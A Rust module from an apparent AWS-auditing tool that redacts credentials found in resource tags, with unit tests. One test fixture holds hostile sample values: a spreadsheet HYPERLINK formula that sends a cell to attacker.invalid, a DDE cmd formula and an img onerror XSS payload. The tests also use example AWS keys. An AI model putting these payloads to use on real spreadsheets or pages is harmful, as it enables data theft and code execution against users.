//! Keeps credentials that someone pasted into a tag out of the snapshot.
//!
//! Tags are collected on purpose (a `Name` in every report, tag selectors
//! in suppressions), so they cannot simply be dropped; but a snapshot and
//! its reports are shared, attached to tickets and kept for months, and a
//! tag value that is an AWS credential must not travel with them. Every tag
//! goes through [`tag`] as it is collected; a value (or, rarer, a key) that
//! looks like a credential is replaced by [`MARKER`], so the reports show
//! that something was there without copying it.
//!
//! What counts as a credential, by how sure the signal is:
//!
//! - anywhere in a key or value: an access key id of a *credential*
//!   (`AKIA` long-term, `ASIA` temporary, `ABIA` bearer token, `ACCA`
//!   context-specific: four letters and 16 of `[A-Z0-9]`), a session token
//!   (the base64 prefixes STS tokens start with), or a 40-character
//!   base64 run mixed like a secret access key. Principal and policy ids
//!   (`AROA`, `AIDA`, `ANPA`, ...) are identifiers, not credentials: IAM
//!   returns them, the snapshot keeps role ids, and `CreatedBy` tags copied
//!   from CloudTrail carry them, so they are kept.
//! - a tag whose key names a secret (`password`, `db_password`,
//!   `githubToken`, `aws_secret_access_key`, `api-key`, ...): its value,
//!   unless it is plainly not one (empty, a yes/no word, an ARN or another
//!   reference to where the secret is kept, prose). A key that only mentions
//!   a secret (`password-policy`, `token-expiry`, `secret-arn`) says
//!   something *about* it and is kept.
//! - inside a value, an assignment to such a name (`token=...`,
//!   `Password: ...`), under the same rule.
//!
//! Redaction is recorded as a debug log line (key and reason, never the
//! value), not in the snapshot: the marker in the value is the record.

/// What a redacted tag value (or key) becomes.
pub(crate) const MARKER: &str = "[redacted by rampart: looks like a credential]";

/// Why a tag was redacted, for the debug log.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Why {
    AccessKeyId,
    SessionToken,
    SecretAccessKey,
    /// The key names a secret and the value is not plainly something else.
    SecretNamedKey,
    /// The value assigns to a secret name (`token=...`).
    SecretAssignment,
}

impl Why {
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Why::AccessKeyId => "access key id",
            Why::SessionToken => "session token",
            Why::SecretAccessKey => "secret access key",
            Why::SecretNamedKey => "key names a secret",
            Why::SecretAssignment => "value assigns a secret",
        }
    }
}

/// One collected tag, redacted if it looks like a credential. Logs what was
/// redacted at debug level (the key, unless the key itself was redacted,
/// and the reason; never the value).
pub(crate) fn tag(key: &str, value: &str) -> (String, String) {
    if let Some(why) = credential_in(key) {
        tracing::debug!(reason = why.as_str(), "tag key and value redacted");
        return (MARKER.to_string(), MARKER.to_string());
    }
    match tag_value(key, value) {
        Some(why) => {
            tracing::debug!(key = ?key, reason = why.as_str(), "tag value redacted");
            (key.to_string(), MARKER.to_string())
        }
        None => (key.to_string(), value.to_string()),
    }
}

/// Why the value of tag `key` must not be kept, if it must not.
pub(crate) fn tag_value(key: &str, value: &str) -> Option<Why> {
    credential_in(value)
        .or_else(|| {
            (names_secret(key) && !plainly_not_secret(value)).then_some(Why::SecretNamedKey)
        })
        .or_else(|| assigns_secret(value).then_some(Why::SecretAssignment))
}

/// A credential pattern anywhere in `s`.
fn credential_in(s: &str) -> Option<Why> {
    if has_access_key_id(s) {
        Some(Why::AccessKeyId)
    } else if has_session_token(s) {
        Some(Why::SessionToken)
    } else if has_secret_access_key(s) {
        Some(Why::SecretAccessKey)
    } else {
        None
    }
}

/// Prefixes of access key ids that are credentials (AWS "unique identifier
/// prefixes"); the other prefixes name principals, policies, certificates.
const CREDENTIAL_KEY_PREFIXES: &[&[u8; 4]] = &[b"AKIA", b"ASIA", b"ABIA", b"ACCA"];

/// `AKIA` + 16 of `[A-Z0-9]`, not inside a longer run of those characters.
fn has_access_key_id(s: &str) -> bool {
    let upper_alnum = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit();
    runs(s.as_bytes(), upper_alnum)
        .any(|run| run.len() == 20 && CREDENTIAL_KEY_PREFIXES.iter().any(|p| run.starts_with(*p)))
}

/// The base64 openings of STS session tokens (a small protobuf-like header
/// naming `aws` or `origin`), followed by enough token to be one.
const SESSION_TOKEN_PREFIXES: &[&str] =
    &["AQoDYXdz", "FwoGZXIvYXdz", "FQoGZXIvYXdz", "IQoJb3JpZ2lu"];

fn has_session_token(s: &str) -> bool {
    runs(s.as_bytes(), base64).any(|run| {
        SESSION_TOKEN_PREFIXES
            .iter()
            .any(|p| run.len() >= p.len() + 16 && run.starts_with(p.as_bytes()))
    })
}

/// Exactly 40 base64 characters in both cases that do not read as words.
/// Hex digests have one case; a CamelCase name or a path has most of its
/// characters in words (`Production`, `api`), random text does not: in
/// simulation 99% of random 40-character keys have under 60% of their
/// characters in words, and CamelCase names of that length 68% or more.
fn has_secret_access_key(s: &str) -> bool {
    runs(s.as_bytes(), base64).any(|run| {
        run.len() == 40
            && run.iter().any(u8::is_ascii_uppercase)
            && run.iter().any(u8::is_ascii_lowercase)
            && in_words(run) * 10 < run.len() * 6
    })
}

/// How many bytes of `run` are in word-like pieces: a lowercase run of
/// three or more letters (with the capital before it), or a capital and
/// two lowercase letters.
fn in_words(run: &[u8]) -> usize {
    let mut covered = 0;
    let mut i = 0;
    while i < run.len() {
        if !run[i].is_ascii_lowercase() {
            i += 1;
            continue;
        }
        let start = i;
        while i < run.len() && run[i].is_ascii_lowercase() {
            i += 1;
        }
        let capital = start > 0 && run[start - 1].is_ascii_uppercase();
        covered += match i - start {
            n if n >= 3 => n + usize::from(capital),
            2 if capital => 3,
            _ => 0,
        };
    }
    covered
}

/// The base64 alphabet without padding (padding ends a token, and `=`
/// also joins a name to its value).
fn base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/'
}

/// Maximal runs of bytes satisfying `keep`.
fn runs(bytes: &[u8], keep: impl Fn(u8) -> bool) -> impl Iterator<Item = &[u8]> {
    bytes.split(move |b| !keep(*b)).filter(|r| !r.is_empty())
}

/// Words that name a secret (after splitting a name into lowercase words
/// and joining `api key` / `private key` / `access token` style pairs).
const SECRET_WORDS: &[&str] = &[
    "secret",
    "secrets",
    "password",
    "passwords",
    "passwd",
    "pwd",
    "passphrase",
    "token",
    "apikey",
    "privatekey",
    "credential",
    "credentials",
];

/// Words that may follow a secret word in a name that still names the
/// secret itself: `secret_key`, `aws_secret_access_key`, `password_value`.
const QUALIFIERS: &[&str] = &["key", "access", "value", "string"];

/// True if `name` names a secret (`db_password`, `GitHubToken`,
/// `aws-secret-access-key`), not something about one (`password-policy`,
/// `token_expiry`, `secret_arn`).
fn names_secret(name: &str) -> bool {
    let words = words(name);
    match words
        .iter()
        .rposition(|w| SECRET_WORDS.contains(&w.as_str()))
    {
        Some(i) => words[i + 1..]
            .iter()
            .all(|w| QUALIFIERS.contains(&w.as_str())),
        None => false,
    }
}

/// `dbPassword-v2` -> `db password v2`; `api_key` -> `apikey`.
fn words(name: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    let mut current = String::new();
    let mut prev_lower = false;
    for c in name.chars() {
        if !c.is_alphanumeric() {
            words.push(std::mem::take(&mut current));
            prev_lower = false;
            continue;
        }
        if c.is_uppercase() && prev_lower {
            words.push(std::mem::take(&mut current));
        }
        prev_lower = c.is_lowercase() || c.is_ascii_digit();
        current.extend(c.to_lowercase());
    }
    words.push(current);
    words.retain(|w| !w.is_empty());
    let mut joined: Vec<String> = Vec::with_capacity(words.len());
    for w in words {
        match (joined.last().map(String::as_str), w.as_str()) {
            (Some("api" | "private"), "key") => {
                let first = joined.pop().unwrap_or_default();
                joined.push(first + "key");
            }
            _ => joined.push(w),
        }
    }
    joined
}

/// Values that a tag named like a secret may hold without holding one.
const PLACEHOLDERS: &[&str] = &[
    "", "-", "true", "false", "yes", "no", "on", "off", "none", "null", "n/a", "na", "tbd",
    "enabled", "disabled", "required", "optional", "unknown", "rotated",
];

/// True for a value that plainly is not a secret even under a secret's
/// name: a placeholder word, prose (whitespace), a reference to where the
/// secret lives (an ARN, a URL without user info, a dynamic reference).
fn plainly_not_secret(value: &str) -> bool {
    let v = value.trim();
    let lower = v.to_ascii_lowercase();
    PLACEHOLDERS.contains(&lower.as_str())
        || v.contains(char::is_whitespace)
        || lower.starts_with("arn:")
        || lower.starts_with("{{resolve:")
        || (lower.contains("://") && !lower.contains('@'))
}

/// True if `value` contains `NAME=VALUE` or `NAME: VALUE` where NAME names
/// a secret and VALUE is not plainly something else (`token=...` in a note,
/// `Password=...` in a connection string).
fn assigns_secret(value: &str) -> bool {
    let name_char = |c: char| c.is_alphanumeric() || c == '_' || c == '-' || c == '.';
    value.match_indices(['=', ':']).any(|(at, sign)| {
        let before = &value[..at];
        let name_start = before
            .char_indices()
            .rev()
            .take_while(|(_, c)| name_char(*c))
            .last()
            .map_or(at, |(i, _)| i);
        let name = &value[name_start..at];
        // `x: y` is an assignment only at the start of a value or of a
        // `;`/`,`/`&`-separated field; elsewhere it is prose ("rotate the
        // token: every 90 days").
        if sign == ":"
            && !value[..name_start]
                .trim_end_matches(' ')
                .chars()
                .last()
                .is_none_or(|c| matches!(c, ';' | ',' | '&' | '\n'))
        {
            return false;
        }
        let rest = value[at + 1..].trim_start_matches(' ');
        let assigned: &str = rest
            .split(|c: char| c.is_whitespace() || matches!(c, ';' | ',' | '&' | '"' | '\''))
            .next()
            .unwrap_or_default();
        !name.is_empty() && names_secret(name) && !plainly_not_secret(assigned)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Tags seen on real resources: none of them may be touched.
    const ORDINARY: &[(&str, &str)] = &[
        ("Name", "legacy-api-1"),
        ("Name", "hardened-backend-app"),
        ("owner", "team-a"),
        ("Owner", "alice@example.com"),
        ("env", "production"),
        ("Environment", "Production"),
        ("cost-center", "CC-1234"),
        (
            "aws:cloudformation:stack-id",
            "arn:aws:cloudformation:us-east-1:123456789012:stack/app/0b8f1c40-8a2b-11ef-9b1c-0a1b2c3d4e5f",
        ),
        ("aws:cloudformation:logical-id", "AppSecurityGroup"),
        (
            "role",
            "arn:aws:iam::123456789012:role/service-role/MyAppRole2024",
        ),
        ("cidr", "10.10.0.0/16"),
        ("allowed", "0.0.0.0/0,::/0"),
        ("instance", "i-0abc1234def567890"),
        ("sg", "sg-0123456789abcdef0"),
        ("subnet", "subnet-0a1b2c3d4e5f60718"),
        ("vpc", "vpc-12345678"),
        ("ami", "ami-0c55b159cbfafe1f0"),
        ("git-commit", "3f2a9c1d4b5e6f708192a3b4c5d6e7f8091a2b3c"),
        (
            "git-commit-upper",
            "3F2A9C1D4B5E6F708192A3B4C5D6E7F8091A2B3C",
        ),
        (
            "sha256",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        ),
        ("LongName", "MyVeryLongApplicationName2024Production1"),
        ("LongName2", "CustomerManagedKeyForProductionDatabase1"),
        ("LongName3", "ThisIsMyReallyLongCamelCaseNameForAnApp1"),
        ("LongName4", "AWSELBHealthCheckForAPIGatewayV2Backend01"),
        ("LongName5", "arnAwsIamRoleServiceRoleForElasticLB2024"),
        ("path", "prod/app/config/database/primary/v2/main"),
        ("version", "v1.2.3"),
        ("created", "2024-11-21T12:00:00Z"),
        ("url", "https://app.example.com/health?x=1"),
        // Principal ids are identifiers (IAM returns them), not credentials.
        ("CreatedBy", "AROAEXAMPLEROLEID001:alice@example.com"),
        ("user-id", "AIDAEXAMPLEUSERID001"),
        // Keys that talk about a secret without holding one.
        ("password-policy", "strict-90-days"),
        ("token-expiry", "2025-01-01"),
        ("token_ttl", "3600s"),
        (
            "secret-arn",
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:db-AbCdEf",
        ),
        ("secrets", "yes"),
        ("contains-secrets", "false"),
        ("secret", "n/a"),
        ("password", "stored in Secrets Manager"),
        (
            "db_password",
            "{{resolve:secretsmanager:prod/db:SecretString:password}}",
        ),
        ("api-key", "https://vault.example.com/v1/kv/app"),
        ("tokenizer", "wordpiece-v3x9Q"),
        ("note", "rotate the token: every 90 days"),
        ("note", "password: required"),
        ("description", "ssh key for bastion, see wiki"),
        // The accessor id is not a secret, and AWS's own sample is not one.
        ("aws_access_key_id_owner", "team-b"),
        // The hostile change set's values (escapes, HTML, formulas).
        (
            "formula",
            "=HYPERLINK(\"http://attacker.invalid/\"&A1,\"click\")",
        ),
        ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("html", "<img src=x onerror=alert(1)>\"'&amp;"),
    ];

    #[test]
    fn ordinary_tags_are_kept_verbatim() {
        for (k, v) in ORDINARY {
            assert_eq!(tag_value(k, v), None, "{k}={v}");
            assert_eq!(tag(k, v), (k.to_string(), v.to_string()), "{k}={v}");
        }
    }

    #[test]
    fn access_key_ids_of_credentials_are_redacted_anywhere() {
        for v in [
            "AKIARAMPARTFAKE00001",
            "AKIAIOSFODNN7EXAMPLE",
            "ASIAY34FZKBOKMUTVV7A",
            "key AKIAIOSFODNN7EXAMPLE in a sentence",
            "token=ASIAY34FZKBOKMUTVV7A;",
        ] {
            assert_eq!(tag_value("note", v), Some(Why::AccessKeyId), "{v}");
        }
        // Longer or shorter runs are something else.
        for v in [
            "AKIAIOSFODNN7EXAMPLEX",
            "AKIAIOSFODNN7EXAMPL",
            "XAKIAIOSFODNN7EXAMPLE",
        ] {
            assert_eq!(tag_value("note", v), None, "{v}");
        }
    }

    #[test]
    fn session_tokens_are_redacted_anywhere() {
        for v in [
            "FwoGZXIvYXdzRAMPARTFAKESESSIONTOKEN0123456789",
            "token=FwoGZXIvYXdzRAMPARTFAKESESSIONTOKEN0123456789",
            "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ",
            "AQoDYXdzEJr1K2dWxYZa0sOI8F1pQ7Hj4E==",
        ] {
            assert_eq!(tag_value("note", v), Some(Why::SessionToken), "{v}");
        }
        // Just the opening is not a token.
        assert_eq!(tag_value("note", "FwoGZXIvYXdz"), None);
    }

    #[test]
    fn secret_access_keys_are_redacted_anywhere() {
        for v in [
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "secret is Xq3v9LmP0a7ZtR2kB8nW4yC6dF1gH5jK9sT0uV3w here",
        ] {
            assert_eq!(tag_value("note", v), Some(Why::SecretAccessKey), "{v}");
        }
    }

    #[test]
    fn random_secret_keys_are_found_almost_always() {
        // xorshift: deterministic pseudo-random 40-character keys.
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let n = 10_000;
        let found = (0..n)
            .filter(|_| {
                let key: String = (0..40)
                    .map(|_| char::from(alphabet[(next() % 64) as usize]))
                    .collect();
                has_secret_access_key(&format!("note {key} end"))
            })
            .count();
        assert!(found * 100 >= n * 98, "{found} of {n}");
    }

    #[test]
    fn a_key_naming_a_secret_redacts_its_value() {
        for (k, v) in [
            (
                "aws_secret_access_key",
                "rampartFAKEsecretKEY/0123456789abcdefghij",
            ),
            ("password", "changeme"),
            ("db_password", "hunter2!"),
            ("DbPassword", "P@ssw0rd"),
            ("GitHubToken", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
            ("api-key", "550e8400-e29b-41d4-a716-446655440000"),
            ("API_KEY", "abc"),
            ("client_secret", "s3cr3t"),
            ("private-key", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"),
            ("secret", "Production"),
        ] {
            assert_eq!(tag_value(k, v), Some(Why::SecretNamedKey), "{k}={v}");
            assert_eq!(tag(k, v), (k.to_string(), MARKER.to_string()));
        }
    }

    #[test]
    fn an_assignment_to_a_secret_name_in_a_value_is_redacted() {
        for v in [
            "Server=db;User=app;Password=hunter2!",
            "password: changeme",
            "export GITHUB_TOKEN=ghp_abc123",
            "aws_secret_access_key=rampartFAKEsecretKEY/0123456789abcdefghij",
        ] {
            assert_eq!(tag_value("note", v), Some(Why::SecretAssignment), "{v}");
        }
    }

    #[test]
    fn a_key_that_is_a_credential_is_redacted_with_its_value() {
        assert_eq!(
            tag(
                "AKIAIOSFODNN7EXAMPLE",
                "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
            ),
            (MARKER.to_string(), MARKER.to_string())
        );
    }

    #[test]
    fn names_are_split_into_words() {
        assert_eq!(words("dbPassword-v2"), ["db", "password", "v2"]);
        assert_eq!(
            words("aws_secret_access_key"),
            ["aws", "secret", "access", "key"]
        );
        assert_eq!(words("GITHUB_API_KEY"), ["github", "apikey"]);
        assert_eq!(words("GitHubToken"), ["git", "hub", "token"]);
    }
}
